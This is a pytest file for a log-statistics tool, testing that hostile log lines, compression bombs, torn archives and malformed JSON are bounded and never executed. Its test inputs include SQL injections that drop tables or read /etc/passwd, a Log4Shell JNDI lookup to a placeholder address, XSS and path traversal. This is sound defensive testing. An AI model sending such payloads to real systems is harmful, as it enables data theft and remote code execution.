"""Logs that somebody wrote to do harm: bounded, nothing of them is executed, and what cannot be read is counted, shown and stops nothing."""

from __future__ import annotations

import bz2
import gzip
import json
import time
from contextlib import closing
from pathlib import Path

import pytest

from publisher.core.errors import Exit
from publisher.stats.engines.duckdb_engine import DuckCount
from tests.stats.logged_show import at

zstd = pytest.importorskip("backports.zstd")

STATEMENTS = (
    "'; DROP TABLE requests; --",
    "'); COPY requests TO 'taken.csv'; --",
    "' UNION SELECT content FROM read_text('/etc/passwd') --",
    "x'); ATTACH 'other.db'; INSTALL httpfs; LOAD httpfs; --",
    "${jndi:ldap://203.0.113.9/a}",
    "{{7*7}} %s %(x)s {0} \\1 $1",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
)


@pytest.mark.parametrize("place", ["agent", "request", "asked", "ip"])
def test_statements_in_a_log_stay_text(logged, place, tmp_path):
    lines = []
    for number, text in enumerate(STATEMENTS):
        said = (
            {"agent": text} if place == "agent" else {"request": text.replace("{", "{{").replace("}", "}}")} if place == "request" else {}
        )
        line = logged.line(at(0, number), ip=f"203.0.113.{number}", **said)
        lines.append(
            line.replace('"-"\n', f'"{text}"\n')
            if place == "asked"
            else line.replace(f"203.0.113.{number}", text)
            if place == "ip"
            else line
        )
    good = logged.line(at(1), ip="198.51.100.1")
    logged.log(*lines, good)
    document = logged.stats()
    assert not {"taken.csv", "other.db"} & {path.name for found in (tmp_path.rglob("*"), Path.cwd().glob("*")) for path in found}
    assert document["downloads"] == {"agent": 2, "request": 1, "asked": 9, "ip": 1}[place]
    assert sum(logged.left_out().values()) == 9 - document["downloads"]


@pytest.mark.parametrize("words", [["pull", "2026-06"], ["2026-06", "pull"]])
def test_a_period_beside_a_command_that_takes_none_is_refused(logged, words):
    refused = logged.show.run("stats", *words)
    assert refused.status == Exit.USAGE and "2026-06" in refused.stderr


def test_a_bomb_beside_a_log_stops_nothing(logged):
    logged.log(*(logged.line(at(0, hour), ip=f"203.0.113.{hour}") for hour in range(5)))
    bomb = logged.show.folder / "logs" / "access.log.1.gz"
    bomb.write_bytes(gzip.compress(b"\0" * (300 << 20), 9))
    assert bomb.stat().st_size < 400_000
    began = time.process_time()
    outcome = logged.show.run("stats", "check", "--json")
    assert outcome.status == Exit.OK
    assert time.process_time() - began < 20
    assert outcome.document["downloads"] == 5
    assert any("unpacks to more than 250 times its size" in row["text"] for row in outcome.document["unread"])


@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, zstd.compress], ids=["gzip", "bzip2", "zstd"])
def test_a_torn_log_counts_as_far_as_it_goes(logged, pack):
    lines = [logged.line(at(0, 0, number), ip=f"203.0.{number // 250}.{number % 250}") for number in range(3_000)]
    packed = pack("".join(lines).encode())
    torn = logged.show.folder / "logs" / "access.log.gz"
    torn.parent.mkdir(exist_ok=True)
    torn.write_bytes(packed[: len(packed) * 2 // 3])
    logged.log(*lines[:5])
    document = logged.stats("check")
    assert 5 <= document["downloads"] < 3_000
    assert document["unread"][-1]["text"] == "(access.log.gz breaks off here: it ends in the middle of what is packed)"
    assert document["lines"] == document["downloads"] + sum(row["requests"] for row in document["left_out"])


def test_bytes_that_are_no_log_are_lines_that_cannot_be_read(logged):
    good = [logged.line(at(0, hour), ip=f"203.0.113.{hour}").encode() for hour in range(3)]
    noise = b"".join(bytes([number * 7919 % 256]) for number in range(100_000)).replace(b"\n", b" ")
    strange = [b"\0" * 5_000, b"\xff\xfe" * 300, b"x" * (1 << 20), noise, b"\x1b]0;title\x07\x1b[2J", b'"' * 9_999, b"[" * 9_999]
    text = good[0] + b"".join(line + b"\n" for line in strange) + good[1] + b"\r\n\n" + good[2].rstrip(b"\n")
    (logged.show.folder / "logs").mkdir(exist_ok=True)
    (logged.show.folder / "logs" / "access.log").write_bytes(text)
    document = logged.stats("check")
    assert document["downloads"] == 3
    assert {row["rule"]: row["requests"] for row in document["left_out"]}["unread"] == len(strange)
    assert [row["line"] for row in document["unread"]] == [2, 3, 4, 5, 6]
    assert not any("\x1b" in row["text"] or "\0" in row["text"] for row in document["unread"])
    assert all(len(row["text"]) <= 200 for row in document["unread"])


WRONG = [
    "00/Jun/2026",
    "31/Jun/2026",
    "29/Feb/2026",
    "01/Jub/2026",
    "01/Jun/0000",
    "01/Jun/9999",
    "01/Jun/1969",
    "1/Jun/2026",
    "01/06/2026",
]


def test_wrong_dates_are_not_counted_and_close_no_day(logged):
    good = logged.line(at(0, 9))
    logged.log(*(good.replace("01/Jun/2026", day).replace("203.0.113.7", f"203.0.113.{number}") for number, day in enumerate(WRONG)), good)
    document = logged.stats()
    assert (document["downloads"], document["unread"]) == (1, len(WRONG))
    assert [row["date"] for row in document["days"]] == ["2026-06-01"]


def test_many_agents_from_few_addresses_are_nobody(logged):
    lines = [logged.line(at(0, 0, number / 100), ip=f"203.0.113.{number % 4}", agent=f"Agent {number}/1.0") for number in range(4_000)]
    logged.log(*lines)
    document = logged.stats()
    assert document["downloads"] == 0
    assert logged.left_out() == {"unrealistic": 4_000}


def test_deep_and_large_json_is_no_request(logged):
    good = {"ts": at(0, 9).timestamp(), "logger": "http.log.access", "size": logged.sizes["long"], "status": 200}
    good["request"] = {
        "remote_ip": "203.0.113.7",
        "method": "GET",
        "uri": logged.paths["long"],
        "headers": {"User-Agent": ["AntennaPod/3.4.0"]},
    }
    odd = [
        '{"request":' * 9_000,
        "[" * 20_000,
        json.dumps({**good, "ts": 10**300}),
        json.dumps({**good, "status": {"a": [1]}}),
        '{"ts": NaN}',
        "null",
    ]
    odd += [
        json.dumps({**good, "request": None}),
        json.dumps({**good, "ts": [good["ts"]]}),
        '{"ts": "\\ud800"}',
        json.dumps({"a": "x" * 60_000}),
    ]
    logged.log(*(f"{line}\n" for line in [json.dumps(good), *odd]), name="caddy.json")
    document = logged.stats()
    assert (document["downloads"], document["unread"]) == (1, len(odd))


def test_a_long_count_draws_no_bar_into_the_document(tmp_path):
    """DuckDB draws one on stdout after two seconds, unless it is told not to."""
    with closing(DuckCount(tmp_path, threads=1)) as count:
        assert count.run("SELECT current_setting('enable_progress_bar')").fetchall() == [(False,)]
